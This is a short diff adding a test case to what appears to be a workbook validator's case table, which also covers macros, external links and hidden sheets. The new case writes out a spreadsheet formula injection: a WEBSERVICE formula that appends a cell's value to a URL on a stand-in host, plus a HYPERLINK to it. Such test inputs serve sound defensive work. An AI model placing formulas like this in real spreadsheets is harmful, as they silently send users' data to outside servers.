@@ -109,6 +109,9 @@ CASES: dict[str, Make] = {
     "workbook-too-costly": lambda: raw(OLD.read_bytes() + bytes(16 << 20), Limits(memory_bytes=8 << 20)),
     "workbook-macros": lambda: raw(with_part("xl/vbaProject.bin", b"")),
     "workbook-external-links": lambda: raw(with_part("xl/externalLinks/externalLink1.xml", b"")),
+    "formula-reaches-out": facts(
+        STAFF, ["000203", "张三", '=WEBSERVICE("http://x/?"&A1)'], ["000204", "李四", '=HYPERLINK("http://x")']
+    ),
     "no-table": facts(["随便", "写写"]),
     "sheet-hidden": sheets("sheet", GOOD, GOOD),
     "sheet-unknown": sheets("", GOOD, [["菜", "价"]]),
